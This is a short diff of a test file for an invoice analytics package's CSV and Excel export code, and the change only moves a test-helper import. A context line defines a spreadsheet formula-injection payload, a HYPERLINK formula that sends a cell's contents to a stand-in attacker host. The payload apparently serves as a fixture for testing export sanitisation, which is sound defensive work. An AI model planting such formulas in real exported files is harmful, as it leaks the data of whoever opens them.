@@ -11,8 +11,7 @@ openpyxl = pytest.importorskip("openpyxl")
 
 from invoice_analytics.errors import ExportWarning  # noqa: E402
 from invoice_analytics.export import EXCEL_CELL_LIMIT, write_csv, write_excel  # noqa: E402
-
-from _frames import frame  # noqa: E402
+from tests.support.frames import frame  # noqa: E402
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"Invoice")'
 
